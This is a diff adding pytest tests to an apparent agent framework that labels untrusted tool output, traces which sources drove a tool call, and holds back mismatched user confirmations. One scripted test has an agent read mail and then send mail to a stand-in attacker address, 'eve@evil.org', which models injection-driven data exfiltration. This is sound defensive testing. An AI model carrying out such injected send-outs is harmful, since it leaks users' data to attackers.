@@ -10,13 +10,16 @@ from typing import NamedTuple
 import msgspec
 import pytest
 
-from weft import Agent, Ask, C, RunConfig, Runner, Tool, ToolContext, tool
-from weft.content import Blob, Part
+from weft import Agent, Ask, C, RunConfig, Runner, Tool, ToolContext, compile, tool
+from weft.content import Blob, Content, FunctionResponse, Part
 from weft.declare import Node
 from weft.diagnostics import Origin
 from weft.errors import DeclarationError, ProtectionError
+from weft.graph import graph_of, to_text
+from weft.inspector.trust import trace_calls
 from weft.ir import Prompt, TextBlock
 from weft.runtime.result import Result
+from weft.session.lookback import QUESTION
 from weft.testing import ScriptedModel, call
 from weft.values import Json, JsonObject
 
@@ -465,3 +468,67 @@ async def test_before_tool_may_ask(answer: bool) -> None:
 def test_a_question_needs_words() -> None:
     with pytest.raises(DeclarationError, match="not a question"):
         Ask(" ")
+
+
+# --- shown
+
+
+def test_the_graph_names_sources_and_sinks() -> None:
+    bot = Agent("bot", model="gpt-4o", tools=[list_mails, send_mail])
+    picture = to_text(graph_of(bot))
+    assert "reads untrusted list_mails" in picture
+    assert "guards send_mail" in picture
+    assert "untrusted" not in to_text(graph_of(Agent("bot", model="gpt-4o", tools=[list_mails])))
+
+
+async def test_explain_says_of_each_block_whose_text_it_is() -> None:
+    bot = Agent("bot", model=ScriptedModel([call("list_mails"), "Done."])).uses(list_mails)
+    async with Runner(bot) as runner:
+        await runner.run("Look", session_id="s")
+        session = await runner.session(session_id="s")
+    lines = str(compile(bot, session=session).explain()).splitlines()
+    (result,) = (line for line in lines if "user result" in line)
+    assert "[untrusted list_m" in result
+    (user,) = (line for line in lines if "user text" in line and "Look" in line)
+    assert "trusted" not in user
+
+
+async def test_the_calls_of_another_programs_agent_are_traced() -> None:
+    """A log without labels, as a proxy keeps it: a call was made from all that was sent."""
+    script = [call("list_mails"), call("send_mail", to="eve@evil.org", body="x"), "Done."]
+    bot = Agent("bot", model=ScriptedModel(script), tools=[list_mails, send_mail])
+    async with Runner(bot) as runner:
+        await runner.run("Look", session_id="s", config=RunConfig(on_untrusted="note"))
+        events = (await runner.session(session_id="s")).events
+    foreign = [msgspec.structs.replace(event, custom_metadata=None) for event in events]
+    (traced,) = trace_calls(foreign)
+    assert (traced.tool, traced.outcome) == ("send_mail", "made")
+    assert "list_mails.body" in traced.sources
+
+
+async def test_a_yes_to_other_arguments_is_not_a_yes_to_these() -> None:
+    MADE.clear()
+    async with Runner(pays(call("read_issue", number=4))) as runner:
+        await runner.run("Look", session_id="s")
+        (question,) = await runner.pending()
+        yes = {"confirmed": True, "payload": {"fingerprint": "of another call"}}
+        answer = FunctionResponse(
+            name="adk_request_confirmation", id=f"{QUESTION}{question.call_id}", response=yes
+        )
+        message = Content(parts=(Part(function_response=answer),), role="user")
+        result = await runner.run(message, session_id="s")
+    assert MADE == []
+    assert "the user confirmed other arguments than these" in str(result.events)
+
+
+@pytest.mark.parametrize(("value", "waits"), [('{"by": {"ann": 3}}', True), ('{"by": {}}', False)])
+async def test_names_that_a_schema_leaves_free_are_words(value: str, waits: bool) -> None:
+    class Votes(msgspec.Struct):
+        by: dict[str, int]
+
+    reader = Agent("reader", model=ScriptedModel([call("read_ticket", id="9"), ORDER]))
+    judge = Agent("judge", model=ScriptedModel([value])).returns(Votes).writes("votes")
+    shell = Agent("bot", model=ScriptedModel([call("run_shell", command="make"), "Done."]))
+    last = shell.uses(run_shell).instruct("{votes}").sees(C.none())
+    node = reader.uses(read_ticket).writes("text") >> judge.instruct("{text}") >> last
+    assert bool((await play(node, "Go", "ask")).waiting) is waits
